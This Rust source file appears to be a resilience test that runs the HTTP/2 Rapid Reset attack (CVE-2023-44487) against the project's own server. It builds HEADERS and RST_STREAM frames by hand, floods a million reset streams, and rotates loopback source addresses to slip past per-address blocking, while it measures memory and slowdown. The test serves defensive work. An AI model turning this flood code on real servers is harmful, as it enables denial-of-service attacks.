//! A million streams that are opened and reset at once (CVE-2023-44487), from somebody known and from a stranger, and a client
//! that wants to be served beside them. Each connection comes from another address, so that what a server does against one that has
//! done it before does not end the attack.

use std::net::{IpAddr, Ipv4Addr};
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::Duration;

use anyhow::{Context as _, Result};
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::task::JoinSet;

use super::fortress::Fortress;
use super::others::{others, slower};
use super::{Figure, attacker};
use crate::bench::client::{Endpoint, Protocol};
use crate::bench::process::MemorySampler;

/// Streams that are opened and reset, by each of the two.
const RESETS: u64 = 1_000_000;
/// Streams that are written before the answers are looked at.
const BATCH: u32 = 500;
/// Connections that each of them has at once.
const CONNECTIONS: usize = 4;
/// After this many connections in a row that took nothing the attacker has lost.
const REFUSED_MAX: u32 = 2_000;
const MEMORY_MAX: f64 = 64.0;
const COST_RATIO_MAX: f64 = 1.10;

/// `PRI * HTTP/2.0`, and an empty SETTINGS frame.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

/// Besieges.
pub async fn run(fortress: &Fortress) -> Result<Vec<Figure>> {
    let cost = fortress.cost().await?;
    let admin = fortress.admin()?;
    let mut figures = Vec::new();
    fortress.user("resetter", "resetter", &[])?;
    for (who, user) in [("somebody known", Some("resetter")), ("a stranger", None)] {
        let mut before = others(&admin).await?;
        let held = fortress.processes().rss()?;
        let memory = MemorySampler::start(fortress.processes());
        let orders = json!({
            "attack": "resets", "authority": fortress.authority(), "pki": fortress.pki(), "user": user,
        });
        let attacker = attacker::spawn(&orders)?;
        let mut during = others(&admin).await?;
        // Whatever others saw, all of the million is sent.
        let report = attacker::report(attacker).await?;
        let peak = memory.peak()?.saturating_sub(held) as f64 / 1048576.0;
        let count = |name: &str| report[name].as_f64().unwrap_or(f64::NAN);
        let mut of_this = vec![
            Figure::told("streams opened and reset", count("sent"), ""),
            Figure::told("connections that it took", count("opened"), ""),
            Figure::at_most("memory above what it held before", peak, "MiB", MEMORY_MAX),
        ];
        of_this.extend(slower(&mut before, &mut during));
        figures.extend(of_this.into_iter().map(|mut figure| {
            figure.what = format!("{who}: {}", figure.what);
            figure
        }));
    }
    let after = fortress.cost().await?;
    figures.push(Figure::told("cost of GET /version before", cost, "us"));
    figures.push(Figure::told("cost of GET /version after", after, "us"));
    figures.push(Figure::at_most("after / before", after / cost, "", COST_RATIO_MAX));
    Ok(figures)
}

/// Opens and resets until a million is reached; each time the server ends the connection, another one is made. Reports how many
/// streams and connections there were.
pub async fn attack(orders: &Value) -> Result<Value> {
    let text = |name: &str| orders[name].as_str().with_context(|| name.to_owned());
    let endpoint = Endpoint::of(text("authority")?, Path::new(text("pki")?), orders["user"].as_str())?;
    let (sent, opened) = (Arc::new(AtomicU64::new(0)), Arc::new(AtomicU64::new(0)));
    let mut attackers = JoinSet::new();
    for _ in 0..CONNECTIONS {
        let (endpoint, sent, opened) = (endpoint.clone(), sent.clone(), opened.clone());
        attackers.spawn(async move {
            let mut refused = 0;
            while sent.load(Ordering::Relaxed) < RESETS && refused < REFUSED_MAX {
                let source = address(opened.fetch_add(1, Ordering::Relaxed));
                let written = on_one_connection(&endpoint.clone().from(source), &sent).await.unwrap_or_default();
                refused = if written == 0 { refused + 1 } else { 0 };
            }
        });
    }
    attackers.join_all().await;
    Ok(json!({ "sent": sent.load(Ordering::Relaxed), "opened": opened.load(Ordering::Relaxed) }))
}

/// One of the addresses of this machine; 65,536 follow each other.
fn address(number: u64) -> IpAddr {
    let [.., high, low] = number.to_be_bytes();
    Ipv4Addr::new(127, 99, high, low).into()
}

/// Streams that one connection took.
async fn on_one_connection(endpoint: &Endpoint, sent: &AtomicU64) -> Result<u64> {
    let tls = tokio::time::timeout(Duration::from_secs(10), endpoint.dial(Protocol::Http2)).await??;
    let (mut read, mut write) = tokio::io::split(tls);
    let ended = Arc::new(AtomicBool::new(false));
    let reader = tokio::spawn({
        let ended = ended.clone();
        async move {
            let mut buffer = vec![0; 64 * 1024];
            while matches!(read.read(&mut buffer).await, Ok(len) if len > 0) {}
            ended.store(true, Ordering::Relaxed);
        }
    });
    write.write_all(PREFACE).await?;
    let (mut stream, mut written) = (1_u32, 0);
    let mut frames = Vec::new();
    while !ended.load(Ordering::Relaxed) && sent.load(Ordering::Relaxed) < RESETS {
        frames.clear();
        for _ in 0..BATCH {
            push_stream(&mut frames, stream, endpoint.authority());
            stream += 2;
        }
        let done = async {
            write.write_all(&frames).await?;
            write.flush().await
        };
        if !matches!(tokio::time::timeout(Duration::from_secs(5), done).await, Ok(Ok(()))) {
            break;
        }
        written += u64::from(BATCH);
        sent.fetch_add(u64::from(BATCH), Ordering::Relaxed);
        tokio::task::yield_now().await;
    }
    reader.abort();
    Ok(written)
}

/// HEADERS of a GET of `/version`, and RST_STREAM with CANCEL.
fn push_stream(frames: &mut Vec<u8>, stream: u32, authority: &str) {
    const GET: u8 = 0x82;
    const SCHEME_HTTPS: u8 = 0x87;
    // Literals without indexing: names 1 (`:authority`) and 4 (`:path`) of the static table.
    const AUTHORITY: u8 = 0x01;
    const PATH: u8 = 0x04;
    let mut block = vec![GET, SCHEME_HTTPS, PATH, 8];
    block.extend_from_slice(b"/version");
    block.extend([AUTHORITY, u8::try_from(authority.len()).unwrap_or_default()]);
    block.extend_from_slice(authority.as_bytes());
    push_frame(frames, 0x1, 0x5, stream, &block);
    push_frame(frames, 0x3, 0, stream, &8_u32.to_be_bytes());
}

fn push_frame(frames: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let len = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    frames.extend_from_slice(len.get(1..).unwrap_or_default());
    frames.extend([kind, flags]);
    frames.extend_from_slice(&stream.to_be_bytes());
    frames.extend_from_slice(payload);
}
